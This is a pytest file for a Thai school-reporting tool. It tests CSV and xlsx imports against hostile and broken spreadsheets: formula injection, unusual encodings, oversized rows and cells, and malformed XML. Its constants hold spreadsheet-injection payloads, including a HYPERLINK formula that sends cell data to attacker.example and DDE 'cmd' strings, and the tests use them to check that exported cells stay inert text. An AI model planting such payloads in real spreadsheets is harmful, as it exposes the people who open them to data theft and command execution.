"""Hostile and broken spreadsheets (issue 13, items 4 and 7), through the real edges: `tidtam import`,
`tidtam link-codes`, `tidtam template` and the importer API.

Item 4: a name that a spreadsheet would take for a formula is imported with a warning and written
into every workbook the product makes as a text cell (checked in the file's XML, not only through
openpyxl). Item 7: CSV in UTF-8 (with or without BOM), UTF-16 and cp874/TIS-620 imports, anything else
is refused in Thai; oversized files, rows and cells and malformed xlsx cells are named errors on their
rows, with short excerpts, never a traceback.
"""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook
from sqlalchemy.engine import Engine
from typer.testing import CliRunner
from xlsx_parts import MAIN, repack

from messages import workbook as text
from models import Office, Person
from models.db import make_engine
from scheduler.clock import FixedClock
from tidtam import migrate
from tidtam.cli import app
from tidtam.workbook import import_workbook
from tidtam.workbook import reader as reader_module
from tidtam.workbook.cells import looks_like_formula
from tidtam.workbook.csv_text import UnknownEncoding, detect_encoding
from tidtam.workbook.limits import MAX_CELL_CHARS, MAX_ROW_CELLS, MAX_ROW_CHARS, MAX_ROW_XML_BYTES, MAX_ROWS
from tidtam.workbook.template import headers
from tidtam.workbook.text_cells import append_row

START = datetime(2026, 10, 1, 2, 0, tzinfo=UTC)
EVIL_NAME = '=HYPERLINK("http://attacker.example/?c="&E2,"คลิกเพื่อยืนยัน")'
EVIL_POSITION = "+cmd|' /C calc'!A0"
EVIL_OFFICE = "@SUM(1+1)*cmd|' /C calc'!A0"
runner = CliRunner()


@pytest.fixture(scope="module")
def sqlite_engine(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    """One migrated SQLite database for the tests where the file is refused before anything is written
    (the backend plays no part in reading a file)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'tidtam.sqlite3'}"
    migrate.upgrade(url)
    return make_engine(url)


def _office_count(engine: Engine) -> int:
    with engine.connect() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(Office.__table__)).scalar_one()


def _import(path: Path, engine: Engine, *, dry_run: bool = True):  # type: ignore[no-untyped-def]
    """The importer API; a dry run unless asked, so the module's shared database stays empty."""
    return import_workbook(path, engine, FixedClock(START), dry_run=dry_run)


OFFICES = [["AO1", "สพม.ทดสอบ", "area_office", ""], ["S1", "โรงเรียนบ้านสวนวิทยา", "school", "AO1"]]
PEOPLE = [["P1", "นางสาวสมใจ ใจดี", "ครู", "S1", "reporter"], ["P2", "นายสมชาย รักเรียน", "ครู", "S1", ""]]


# --- item 4: formulas in, text out ----------------------------------------------------------------------


def _cell_xml(path: Path, member: str, ref: str) -> str:
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read(member).decode()
    found = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', sheet)
    assert found, f"no cell {ref} in {member}"
    return found.group(0)


def _quote_prefixed_styles(path: Path) -> set[int]:
    """Indexes of the cell formats (``cellXfs``) that carry ``quotePrefix="1"``."""
    with zipfile.ZipFile(path) as archive:
        styles = archive.read("xl/styles.xml").decode()
    cell_xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert cell_xfs
    formats = re.findall(r"<xf\b[^>]*?(?:/>|>.*?</xf>)", cell_xfs.group(1), re.S)
    return {i for i, xf in enumerate(formats) if 'quotePrefix="1"' in xf}


def _assert_text_cell(path: Path, member: str, ref: str, value: str) -> None:
    xml = _cell_xml(path, member, ref)
    assert "<f>" not in xml and 't="inlineStr"' in xml, xml
    style = re.search(r'\ss="(\d+)"', xml)
    assert style and int(style.group(1)) in _quote_prefixed_styles(path), xml
    book = load_workbook(path)
    sheet = book[book.sheetnames[0]] if member.endswith("sheet1.xml") else None
    assert sheet is not None
    cell = sheet[ref]
    assert (cell.value, cell.data_type, cell.quotePrefix, cell.number_format) == (value, "s", True, "@")


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)


def test_formula_names_import_with_a_warning_and_link_codes_writes_them_as_text(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # no stray .env
    env = {"TIDTAM_DATABASE_URL": db_url, "TIDTAM_TIMEZONE": "Asia/Bangkok"}
    folder = tmp_path / "csv"
    folder.mkdir()
    _write_csv(
        folder / "offices.csv",
        [headers("offices"), ["AO1", "สพม.ทดสอบ", "area_office", ""], ["S1", EVIL_OFFICE, "school", "AO1"]],
    )
    _write_csv(
        folder / "people.csv",
        [
            headers("people"),
            ["P1", EVIL_NAME, EVIL_POSITION, "S1", "reporter"],
            ["P2", "นางสาวสมใจ ใจดี", "-", "S1", "reporter"],  # a lone "-" is no formula
        ],
    )

    imported = runner.invoke(app, ["import", str(folder)], env=env)
    assert imported.exit_code == 0, imported.output
    assert text.import_heading() in imported.output
    warnings = [line for line in imported.output.splitlines() if text.looks_like_formula() in line]
    assert len(warnings) == 3  # the office's name, the person's name and position; not the "-"
    assert any("ชีต people (บุคลากร) แถว 2 คอลัมน์ ชื่อ-นามสกุล" in line for line in warnings)

    out = tmp_path / "codes.xlsx"
    written = runner.invoke(app, ["link-codes", "--office", "AO1", str(out)], env=env)
    assert written.exit_code == 0, written.output
    rows = {row[0]: i for i, row in enumerate(load_workbook(out).active.iter_rows(values_only=True), start=1)}
    sheet = "xl/worksheets/sheet1.xml"
    # B: name, C: position, D: office name: each exactly as typed, a string cell, never <f>
    _assert_text_cell(out, sheet, f"B{rows['P1']}", EVIL_NAME)
    _assert_text_cell(out, sheet, f"C{rows['P1']}", EVIL_POSITION)
    _assert_text_cell(out, sheet, f"D{rows['P1']}", EVIL_OFFICE)
    _assert_text_cell(out, sheet, f"C{rows['P2']}", "-")
    with zipfile.ZipFile(out) as archive:
        assert "<f>" not in archive.read(sheet).decode()
    plain = _cell_xml(out, sheet, f"B{rows['P2']}")
    assert "ใจดี" in plain and not re.search(r'\ss="\d+"', plain)  # plain text is left plain

    engine = make_engine(db_url)
    try:
        with engine.connect() as conn:
            people = Person.__table__
            stored = conn.execute(sa.select(people.c.full_name).where(people.c.code == "P1")).scalar_one()
    finally:
        engine.dispose()
    assert stored == EVIL_NAME  # kept as typed: the guard is in the writing, not in the data
    again = runner.invoke(app, ["import", str(folder)], env=env)
    assert again.exit_code == 0 and text.nothing_changed() in again.output


def test_template_has_no_formula_cell(tmp_path: Path) -> None:
    path = tmp_path / "template.xlsx"
    made = runner.invoke(app, ["template", str(path)])
    assert made.exit_code == 0, made.output
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 6
        for name in sheets:
            assert "<f>" not in archive.read(name).decode(), name
    assert load_workbook(path)["projects"]["A1"].value == headers("projects")[0]


def test_write_only_sheets_are_guarded_too(tmp_path: Path) -> None:
    """The demo writer's mode: openpyxl write-only worksheets."""
    book = Workbook(write_only=True)
    ws = book.create_sheet("offices")
    append_row(ws, ["=1+1", "-2+3", "\tx", "โรงเรียน", 5, "bell\x07"])
    path = tmp_path / "w.xlsx"
    book.save(path)
    for ref, value in (("A1", "=1+1"), ("B1", "-2+3"), ("C1", "\tx")):
        _assert_text_cell(path, "xl/worksheets/sheet1.xml", ref, value)
    sheet = load_workbook(path).active
    assert [c.value for c in sheet[1]][3:] == ["โรงเรียน", 5, "bell"]  # control characters dropped


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=HYPERLINK(1)", True),
        ("@SUM(A1)", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3+cmd", True),
        ("- ไม่มี -", True),
        ("-", False),
        ("-5", False),
        ("+66 81 234 5678", False),
        ("ครู", False),
        ("=", False),
    ],
)
def test_what_looks_like_a_formula(value: str, expected: bool) -> None:
    assert looks_like_formula(value) is expected


# --- item 7: CSV encodings ---------------------------------------------------------------------------


def _csv_folder(tmp_path: Path, encoding: str, *, bom: bytes = b"", separator: str = ",") -> Path:
    folder = tmp_path / encoding
    folder.mkdir()
    for sheet, rows in (("offices", OFFICES), ("people", PEOPLE)):
        lines = [separator.join(headers(sheet)), *(separator.join(row) for row in rows)]
        (folder / f"{sheet}.csv").write_bytes(bom + ("\r\n".join(lines) + "\r\n").encode(encoding))
    return folder


@pytest.mark.parametrize(
    ("encoding", "bom", "separator"),
    [
        ("cp874", b"", ","),  # Thai Windows Excel's plain "CSV"
        ("tis-620", b"", ","),
        ("utf-8", b"", ","),
        ("utf-8", b"\xef\xbb\xbf", ","),  # "CSV UTF-8"
        ("utf-16-le", b"\xff\xfe", "\t"),  # "Unicode Text": UTF-16 with a BOM, tab-separated
        ("utf-16-be", b"\xfe\xff", ","),
        ("utf-16-le", b"", ","),
    ],
)
def test_csv_in_every_encoding_thai_excel_writes(
    engine: Engine, tmp_path: Path, encoding: str, bom: bytes, separator: str
) -> None:
    result = _import(_csv_folder(tmp_path, encoding, bom=bom, separator=separator), engine, dry_run=False)
    assert result.ok and result.written, [str(p) for p in result.problems]
    with engine.connect() as conn:
        names = dict(conn.execute(sa.select(Person.__table__.c.code, Person.__table__.c.full_name)).all())
        office = conn.execute(sa.select(Office.__table__.c.name).where(Office.__table__.c.code == "S1"))
        assert office.scalar_one() == "โรงเรียนบ้านสวนวิทยา"
    assert names == {"P1": "นางสาวสมใจ ใจดี", "P2": "นายสมชาย รักเรียน"}


def test_csv_in_an_unknown_encoding_is_refused_in_thai(sqlite_engine: Engine, tmp_path: Path) -> None:
    folder = tmp_path / "latin"
    folder.mkdir()
    (folder / "offices.csv").write_bytes(
        "code,name,kind\r\nAO1,Café Müller école,area_office\r\n".encode("cp1252")
    )
    (folder / "people.csv").write_bytes(b"PK\x03\x04\x14\x00\x00\x00\x08\x00!\x00\xa1\xb2")  # a renamed .xlsx
    result = runner.invoke(app, ["import", str(folder)], env={"TIDTAM_DATABASE_URL": str(sqlite_engine.url)})
    assert result.exit_code == 1
    lines = [line for line in result.output.splitlines() if text.unknown_encoding() in line]
    assert len(lines) == 2 and "offices" in lines[0] and "people" in lines[1]
    assert "Traceback" not in result.output and "CSV UTF-8" in lines[0]
    assert _office_count(sqlite_engine) == 0


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("ครูสมใจ,สำนักงาน\n".encode("cp874"), "cp874"),
        (b"code,name\nA1,plain\n", "utf-8"),
        ("\ufeffรหัส\n".encode(), "utf-8-sig"),
        ("รหัส\tชื่อ\n".encode("utf-16"), "utf-16"),
    ],
)
def test_detect_encoding(tmp_path: Path, data: bytes, expected: str) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(data)
    assert detect_encoding(path) == expected


@pytest.mark.parametrize(
    "data",
    ["naïve café, résumé éé\n".encode("latin-1"), b"\x00\x01\x02\x00binary\x00\xff", b"\x81\x82 not cp874\n"],
)
def test_detect_encoding_refuses(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(data)
    with pytest.raises(UnknownEncoding):
        detect_encoding(path)


# --- item 7: sizes ---------------------------------------------------------------------------------------


def test_csv_cells_and_rows_past_the_limits_are_named_errors(sqlite_engine: Engine, tmp_path: Path) -> None:
    folder = tmp_path / "big"
    folder.mkdir()
    long_name = "ก" * (MAX_CELL_CHARS + 10)
    rows = [
        ",".join(headers("offices")),
        "AO1,สพม.ทดสอบ,area_office,",
        f"S1,{long_name},school,AO1",  # row 3: a cell over Excel's limit
        "S2,โรงเรียนสอง,schol,AO1",  # row 4: still checked after it
        "S3,ok," + "x" * (MAX_ROW_CHARS + 5) + ",AO1",  # row 5: over the row limit (and csv's 131,072)
        "S4,never read,nonsense,AO1",
    ]
    (folder / "offices.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    (folder / "people.csv").write_text(",".join(headers("people")) + "\nP1,ชื่อ\x01แปลก,ครู,AO1,\n", "utf-8")
    result = _import(folder, sqlite_engine)
    found = {(p.sheet, p.row, p.column): p for p in result.errors}
    assert set(found) == {
        ("offices", 3, "name"),
        ("offices", 4, "kind"),
        ("offices", 5, None),
        ("people", 2, "full_name"),
    }
    assert found[("offices", 3, "name")].message == text.cell_too_long(MAX_CELL_CHARS + 10, MAX_CELL_CHARS)
    assert found[("offices", 5, None)].message == text.reading_stopped(text.row_too_long(MAX_ROW_CHARS))
    assert found[("people", 2, "full_name")].message == text.control_character()
    assert all(len(str(p)) < 400 for p in result.errors)  # no cell quoted in full
    assert not result.written and _office_count(sqlite_engine) == 0


def test_a_huge_cell_is_quoted_as_a_short_excerpt(sqlite_engine: Engine, tmp_path: Path) -> None:
    huge = "โครงการ" + "ย" * 99_993  # 100,000 characters (openpyxl itself would cut it at 32,767)
    rows = (
        HEADER_ROW
        + _office_row(2, "S2", _inline(huge, "B2"))
        + _office_row(3, "ก" * 300, _inline("ชื่อ", "B3"))
    )
    path = xlsx_with_sheet(tmp_path / "huge.xlsx", rows, SHARED)
    env = {"TIDTAM_DATABASE_URL": str(sqlite_engine.url)}
    result = runner.invoke(app, ["import", str(path), "--dry-run"], env=env)
    assert result.exit_code == 1
    errors = [line for line in result.output.splitlines() if line.startswith(text.ERROR_WORD)]
    assert len(errors) == 3  # row 2: its name, and its parent AO1 is not there; row 3: its code
    assert any(text.cell_too_long(100_000, MAX_CELL_CHARS) in line for line in errors)
    assert any("(ยาว 300 ตัวอักษร)" in line and text.too_long(32) in line for line in errors)
    assert max(len(line) for line in result.output.splitlines()) < 300, [len(line) for line in errors]


def test_an_xlsx_over_the_file_limits_is_refused(
    sqlite_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "big.xlsx"
    book = Workbook()
    book.active.title = "offices"
    book.active.append(headers("offices"))
    book.save(path)
    monkeypatch.setattr(reader_module, "MAX_FILE_BYTES", path.stat().st_size - 1)
    result = _import(path, sqlite_engine)
    assert [p.message for p in result.errors] == [
        text.file_too_large(path.stat().st_size, path.stat().st_size - 1)
    ]
    monkeypatch.undo()
    with zipfile.ZipFile(path) as archive:
        unpacked = sum(part.file_size for part in archive.infolist())
    monkeypatch.setattr(reader_module, "MAX_UNPACKED_BYTES", unpacked - 1)
    result = _import(path, sqlite_engine)
    assert [p.message for p in result.errors] == [text.unpacked_too_large(unpacked - 1)]


# --- item 7: malformed and oversized xlsx -------------------------------------------------------------


def xlsx_with_sheet(
    path: Path, rows_xml: str, shared: Sequence[str] = (), *, root: str | None = None
) -> Path:
    """An .xlsx whose first sheet, "offices", is ``rows_xml`` inside <sheetData>, as a tool wrote it."""
    base = path.with_suffix(".base.xlsx")
    book = Workbook()
    book.active.title = "offices"
    book.save(base)
    root = (
        root
        or f'<worksheet xmlns="{MAIN}" xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac">'
    )
    close = "</" + root[1:].split()[0].rstrip(">") + ">"
    data_tag = "x:sheetData" if root.startswith("<x:") else "sheetData"
    sheet = f'<?xml version="1.0" encoding="UTF-8"?>\n{root}<{data_tag}>{rows_xml}</{data_tag}>{close}'
    repack(base, path, sheet, shared)
    base.unlink()
    return path


def _s(index: int, ref: str) -> str:
    return f'<c r="{ref}" t="s"><v>{index}</v></c>'


def _inline(value: str, ref: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


HEADER_ROW = '<row r="1">' + "".join(_s(i, f"{c}1") for i, c in enumerate("ABCD")) + "</row>"
SHARED = ["code", "name", "kind", "parent_code", "area_office", "school"]


def _office_row(number: int, code: str, name_cell: str, kind: int = 5, attrs: str = "") -> str:
    return (
        f'<row r="{number}"{attrs}>{_inline(code, f"A{number}")}{name_cell}{_s(kind, f"C{number}")}'
        f"{_inline('AO1', f'D{number}')}</row>"
    )


def test_every_malformed_cell_is_an_error_on_its_row(sqlite_engine: Engine, tmp_path: Path) -> None:
    rows = "".join(
        [
            HEADER_ROW,
            f'<row r="2">{_inline("AO1", "A2")}{_inline("สพม.ทดสอบ", "B2")}{_s(4, "C2")}</row>',
            _office_row(3, "S3", '<c r="B3" t="s"><v>999</v></c>'),  # no such shared string
            _office_row(4, "S4", '<c r="B4" t="s"><v>abc</v></c>'),  # not an index
            _office_row(5, "S5", '<c r="B5" t="n"><v>1,5</v></c>'),  # not a number
            _office_row(6, "S6", '<c r="B6" t="d"><v>yesterday</v></c>'),  # not an ISO date
            _office_row(7, "S7", '<c r="B7" t="e"><v>#N/A</v></c>'),  # a failed formula
            _office_row(8, "S8", '<c r="B8"><v>NaN</v></c>'),  # no such number in Excel
            _office_row(9, "S9", '<c r="B9" t="str"><f>1/0</f><v>ok</v><bad></c>'),  # XML broken: the row
            # Excel's own: a formula's cached text, and a prefixed attribute on the row (read slowly)
            _office_row(
                10,
                "S10",
                '<c r="B10" t="str"><f>CONCAT("โรงเรียน","สิบ")</f><v>โรงเรียนสิบ</v></c>',
                attrs=' spans="1:4" x14ac:dyDescent="0.25"',
            ),
            _office_row(
                11, "S11", '<c r="B11" t="inlineStr"><is><r><t>โรงเรียน</t></r><r><t>ที่สิบเอ็ด</t></r></is></c>'
            ),
            _office_row(12, "S12", _inline("โรงเรียนสิบสอง", "B12"), kind=9),  # a bad kind index, last column
        ]
    )
    path = xlsx_with_sheet(tmp_path / "broken.xlsx", rows, SHARED)
    result = _import(path, sqlite_engine)
    found = {(p.row, p.column): p.message for p in result.errors}
    broken = text.broken_cell()
    assert found == {
        (3, "name"): broken,
        (4, "name"): broken,
        (5, "name"): broken,
        (6, "name"): broken,
        (7, "name"): text.formula_error_value("#N/A"),
        (8, "name"): broken,
        (9, None): text.broken_row(),
        (12, "kind"): broken,
    }
    assert _office_count(sqlite_engine) == 0

    fixed = xlsx_with_sheet(
        tmp_path / "fixed.xlsx",
        rows.split('<row r="3">')[0] + "".join(row for row in re.findall(r'<row r="1[01]".*?</row>', rows)),
        SHARED,
    )
    ok = _import(fixed, sqlite_engine)
    assert ok.ok and ok.plan is not None, [str(p) for p in ok.problems]
    names = {r.code: r.name for r in ok.plan.sheets["offices"].create}
    assert names == {"AO1": "สพม.ทดสอบ", "S10": "โรงเรียนสิบ", "S11": "โรงเรียนที่สิบเอ็ด"}


def test_an_oversized_row_is_skipped_with_its_error_and_the_rest_is_read(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    cell = '<c r="A3" t="inlineStr"><is><t>x</t></is></c>'
    huge = '<row r="3">' + cell * (9 * MAX_ROW_XML_BYTES // len(cell)) + "</row>"  # spans read chunks
    big = '<row r="4">' + cell.replace("A3", "A4") * (MAX_ROW_XML_BYTES // len(cell) + 1) + "</row>"
    many = '<row r="5">' + "<c/>" * (MAX_ROW_CELLS + 1) + "</row>"
    rows = "".join(
        [
            HEADER_ROW,
            f'<row r="2">{_inline("AO1", "A2")}{_inline("สพม.ทดสอบ", "B2")}{_s(4, "C2")}</row>',
            huge,
            big,
            many,
            _office_row(6, "S6", _inline("หก", "B6"), kind=9),
            '<row r="7"/>',
            _office_row(8, "S8", _inline("แปด", "B8")),
        ]
    )
    path = xlsx_with_sheet(tmp_path / "big-row.xlsx", rows, SHARED)
    assert path.stat().st_size < 200_000  # small on disk, large unpacked
    result = _import(path, sqlite_engine)
    found = {(p.row, p.column): p.message for p in result.errors}
    assert found == {
        (3, None): text.row_too_large(MAX_ROW_XML_BYTES),
        (4, None): text.row_too_large(MAX_ROW_XML_BYTES),
        (5, None): text.row_too_many_cells(MAX_ROW_CELLS),
        (6, "kind"): text.broken_cell(),  # read on after them
    }
    assert result.plan is None and _office_count(sqlite_engine) == 0


def test_a_row_number_past_excel_stops_the_sheet_at_once(sqlite_engine: Engine, tmp_path: Path) -> None:
    rows = HEADER_ROW + f'<row r="{10**12}">{_inline("S1", "A2")}</row>'
    result = _import(xlsx_with_sheet(tmp_path / "far.xlsx", rows, SHARED), sqlite_engine)
    assert [(p.row, p.message) for p in result.errors] == [
        (2, text.reading_stopped(text.row_number_too_large(MAX_ROWS)))
    ]


def test_a_sheet_with_a_namespace_prefix_is_read(sqlite_engine: Engine, tmp_path: Path) -> None:
    """Some exporters (the .NET Open XML SDK) write ``<x:row>``; once read by openpyxl whole, now row by row."""

    def prefixed(xml: str) -> str:
        return re.sub(r"<(/?)(row|c|v|is|t)\b", r"<\1x:\2", xml)

    rows = prefixed(
        HEADER_ROW
        + f'<row r="2">{_inline("AO1", "A2")}{_inline("สพม. &amp; ทดสอบ", "B2")}{_s(4, "C2")}</row>'
    )
    path = xlsx_with_sheet(tmp_path / "prefixed.xlsx", rows, SHARED, root=f'<x:worksheet xmlns:x="{MAIN}">')
    result = _import(path, sqlite_engine)
    assert result.ok and result.plan is not None, [str(p) for p in result.problems]
    assert [(r.code, r.name, r.kind) for r in result.plan.sheets["offices"].create] == [
        ("AO1", "สพม. & ทดสอบ", "area_office")
    ]


def test_a_damaged_sheet_ends_with_a_named_error(sqlite_engine: Engine, tmp_path: Path) -> None:
    rows = HEADER_ROW + "".join(
        _office_row(n, f"S{n}", _inline(f"โรงเรียน {n}", f"B{n}")) for n in range(2, 3000)
    )
    path = xlsx_with_sheet(tmp_path / "good.xlsx", rows, SHARED)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    data[middle : middle + 64] = bytes(64)  # corrupt deflate data (or a CRC mismatch at the end)
    path.write_bytes(bytes(data))
    result = _import(path, sqlite_engine)
    last = result.errors[-1]  # the sheet was cut short, at its start or at the row where it broke
    assert (last.row, last.message) == (None, text.broken_sheet()) or last.message in (
        text.reading_stopped(text.broken_sheet()),
        text.broken_row(),
    )
    assert _office_count(sqlite_engine) == 0


def test_excerpts_are_short_and_on_one_line() -> None:
    value = "บรรทัดหนึ่ง\nบรรทัดสอง\x00" + "ก" * 500
    shown = text.shown_value(value)
    assert "\n" not in shown and "\x00" not in shown
    assert shown.endswith(f"(ยาว {len(value):,} ตัวอักษร)") and len(shown) < 80
    assert text.shown_value("S001") == "“S001”"
    assert text.column_label("offices", "สี" * 1000).endswith("…")


def test_the_import_command_exits_1_with_thai_lines_for_every_broken_file(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    cell = '<c r="A2" t="inlineStr"><is><t>x</t></is></c>'
    files = {
        "malformed": xlsx_with_sheet(
            tmp_path / "m.xlsx", HEADER_ROW + _office_row(2, "S2", '<c r="B2" t="d"><v>?</v></c>'), SHARED
        ),
        "huge row": xlsx_with_sheet(
            tmp_path / "h.xlsx", HEADER_ROW + '<row r="2">' + cell * 100_000 + "</row>", SHARED
        ),
        "far row": xlsx_with_sheet(
            tmp_path / "f.xlsx", HEADER_ROW + f'<row r="99999999999">{cell}</row>', SHARED
        ),
        "not a workbook": tmp_path / "n.xlsx",
    }
    files["not a workbook"].write_bytes(b"\x00" * 100)
    expected = {
        "malformed": text.broken_cell(),
        "huge row": text.row_too_large(MAX_ROW_XML_BYTES),
        "far row": text.reading_stopped(text.row_number_too_large(MAX_ROWS)),
        "not a workbook": "เปิดไฟล์ไม่ได้ค่ะ",
    }
    for name, path in files.items():
        result = runner.invoke(
            app, ["import", str(path)], env={"TIDTAM_DATABASE_URL": str(sqlite_engine.url)}
        )
        assert result.exit_code == 1 and isinstance(result.exception, SystemExit), (name, result.exception)
        assert expected[name] in result.output, (name, result.output)
        assert "Traceback" not in result.output
    assert _office_count(sqlite_engine) == 0
